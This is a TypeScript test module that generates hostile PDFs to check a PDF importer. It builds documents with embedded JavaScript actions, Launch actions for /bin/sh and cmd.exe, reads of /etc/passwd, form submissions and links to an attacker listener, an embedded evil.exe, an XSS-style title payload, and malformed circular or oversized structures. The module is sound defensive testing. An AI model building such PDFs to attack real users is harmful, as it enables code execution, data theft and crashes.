/** Hostile PDFs: scripts and actions, structures that lead in circles, numbers without measure. Written by hand. */

import { HARMLESS, type HostileReport, type Listener, TRIPWIRE } from './hostileReport.ts';

interface Parts {
  readonly catalog?: string;
  readonly page?: string;
  readonly pages?: string;
  readonly trailer?: string;
  /** Further objects, from number 6 on. */
  readonly objects?: readonly string[];
  readonly box?: string;
  readonly before?: string;
}

/** One page with the harmless sentence, and what `parts` add. */
function pdf({
  catalog = '',
  page = '',
  pages = '',
  trailer = '',
  objects = [],
  box = '[0 0 612 792]',
  before = '',
}: Parts): Uint8Array {
  const content = `${before} BT /F1 11 Tf 72 700 Td (${HARMLESS}) Tj ET`;
  const all = [
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    pages || '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox ${box} /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R ${page} >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    ...objects,
  ];
  let file = '%PDF-1.7\n';
  const offsets = all.map((object, at) => {
    const offset = file.length;
    file += `${at + 1} 0 obj\n${object}\nendobj\n`;
    return offset;
  });
  const table = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  file += `xref\n0 ${all.length + 1}\n0000000000 65535 f \n${table}trailer\n<< /Size ${all.length + 1} /Root 1 0 R ${trailer} >>\nstartxref\n${file.length}\n%%EOF\n`;
  return new Uint8Array(Buffer.from(file, 'latin1'));
}

const script = `<< /S /JavaScript /JS (${TRIPWIRE.replace(/[()\\]/g, '\\$&')}) >>`;

function actions(out: Listener): Readonly<Record<string, Parts>> {
  const action = (body: string): Parts => ({ catalog: `/OpenAction << ${body} >>` });
  const annotation = (body: string): Parts => ({ page: `/Annots [<< /Type /Annot /Rect [0 0 600 700] ${body} >>]` });
  return {
    'open-script': { catalog: `/OpenAction ${script}` },
    'names-script': { catalog: `/Names << /JavaScript << /Names [(x) ${script}] >> >>` },
    'page-script': { page: `/AA << /O ${script} /C ${script} >>` },
    'close-script': { catalog: `/AA << /WC ${script} /WP ${script} /DP ${script} >>` },
    'field-script': { catalog: `/AcroForm << /Fields [<< /FT /Tx /T (x) /AA << /K ${script} /C ${script} >> >>] >>` },
    launch: action('/S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >>'),
    'launch-file': action('/S /Launch /F (file:///etc/passwd)'),
    uri: action(`/S /URI /URI (${out}/pdf-open)`),
    'uri-script': annotation(
      `/Subtype /Link /A << /S /URI /URI (javascript:${TRIPWIRE.replace(/[()\\]/g, '\\$&')}) >>`,
    ),
    link: annotation(`/Subtype /Link /A << /S /URI /URI (${out}/pdf-link) >>`),
    remote: action(`/S /GoToR /F (${out}/remote.pdf) /D [0 /Fit]`),
    embedded: action('/S /GoToE /D [0 /Fit] /T << /R /C /N (x) >>'),
    submit: action(`/S /SubmitForm /F (${out}/submit)`),
    'import-data': action('/S /ImportData /F (/etc/passwd)'),
    sound: annotation('/Subtype /Sound /Sound << /R 1 >>'),
    movie: annotation(`/Subtype /Movie /Movie << /F (${out}/movie) >>`),
    screen: annotation(`/Subtype /Screen /A << /S /Rendition /OP 0 /JS (${TRIPWIRE.replace(/[()\\]/g, '\\$&')}) >>`),
    'rich-media': annotation('/Subtype /RichMedia /RichMediaContent << >>'),
    'file-attached': {
      catalog: '/Names << /EmbeddedFiles << /Names [(evil.exe) << /Type /Filespec /F (evil.exe) >>] >> >>',
    },
    xfa: {
      catalog: `/AcroForm << /XFA [(template) (<template><script>${TRIPWIRE.replace(/[()\\]/g, '\\$&')}</script></template>)] >>`,
    },
    'outside-stream': { objects: [`<< /Length 0 /F (${out}/stream) >>\nstream\n\nendstream`], page: '/Metadata 6 0 R' },
    'title-markup': { trailer: `/Info << /Title (<img src=x: onerror=${TRIPWIRE.replace(/[()\\]/g, '\\$&')}>) >>` },
    'label-markup': { catalog: '/PageLabels << /Nums [0 << /P (<script>) >>] >>' },
  };
}

const either = ['read', 'corrupt', 'limit', 'unsupported'] as const;

/** With how the import may end; some of these pdf.js repairs. */
const structures: Readonly<Record<string, readonly [Parts, HostileReport['verdict']]>> = {
  'pages-in-circles': [{ pages: '<< /Type /Pages /Kids [2 0 R] /Count 1 >>' }, either],
  'pages-of-themselves': [{ pages: '<< /Type /Pages /Kids [2 0 R 3 0 R 2 0 R] /Count 3 >>' }, either],
  'too-many-pages': [{ pages: '<< /Type /Pages /Kids [3 0 R] /Count 2147483647 >>' }, either],
  'fewer-than-no-pages': [{ pages: '<< /Type /Pages /Kids [3 0 R] /Count -5 >>' }, either],
  'huge-page': [{ box: '[0 0 1e9 1e9]' }, 'read'],
  'no-page': [{ box: '[0 0 0 0]' }, either],
  'page-of-no-numbers': [{ box: '[(a) null true <<>>]' }, either],
  'outline-in-circles': [
    {
      catalog: '/Outlines 6 0 R',
      objects: [
        '<< /First 7 0 R /Last 7 0 R /Count 1 >>',
        '<< /Title (x) /Parent 6 0 R /Next 7 0 R /First 7 0 R /Dest [3 0 R /Fit] >>',
      ],
    },
    'read',
  ],
  'labels-in-circles': [{ catalog: '/PageLabels 6 0 R', objects: ['<< /Kids [6 0 R] >>'] }, either],
  'tags-in-circles': [
    {
      catalog: '/StructTreeRoot 6 0 R /MarkInfo << /Marked true >>',
      objects: ['<< /Type /StructTreeRoot /K 6 0 R >>'],
    },
    either,
  ],
  'tags-of-themselves': [
    {
      catalog: '/StructTreeRoot 6 0 R /MarkInfo << /Marked true >>',
      page: '/StructParents 0',
      before: '/P << /MCID 0 >> BDC',
      objects: [
        '<< /Type /StructTreeRoot /K [7 0 R 7 0 R] /ParentTree << /Nums [0 [7 0 R 8 0 R 7 0 R]] >> >>',
        '<< /Type /StructElem /S /L /P 8 0 R /Pg 3 0 R /K [8 0 R 7 0 R 0 0] >>',
        '<< /Type /StructElem /S /Table /P 7 0 R /Pg 3 0 R /K [7 0 R 8 0 R 0] >>',
      ],
    },
    'read',
  ],
  'saved-without-end': [{ before: 'q '.repeat(8_000) }, either],
  'restored-without-end': [{ before: 'Q '.repeat(20_000) }, either],
  'arrays-in-arrays': [{ before: `${'['.repeat(100_000)}` }, either],
  'form-of-itself': [
    {
      before: '/X Do',
      page: '/Resources << /Font << /F1 4 0 R >> /XObject << /X 6 0 R >> >>',
      objects: [
        '<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >> /Length 5 >>\nstream\n/X Do\nendstream',
      ],
    },
    either,
  ],
  'length-that-lies': [{ objects: ['<< /Length 999999999 >>\nstream\nx\nendstream'] }, either],
  'previous-table-itself': [{ trailer: '/Prev 9' }, either],
  'locked-badly': [{ trailer: '/Encrypt << /Filter /Evil /V 99 >>' }, [...either, 'password']],
};

/** All of them; `out` is where the attacker listens. */
export function hostilePdfs(out: Listener): HostileReport[] {
  return [
    ...Object.entries(actions(out)).map(
      ([name, parts]): HostileReport => ({
        group: 'actions in PDFs',
        name: `${name}.pdf`,
        bytes: () => pdf(parts),
        verdict: 'read',
      }),
    ),
    ...Object.entries(structures).map(
      ([name, [parts, verdict]]): HostileReport => ({
        group: 'structures of PDFs',
        name: `${name}.pdf`,
        bytes: () => pdf(parts),
        verdict,
      }),
    ),
  ];
}
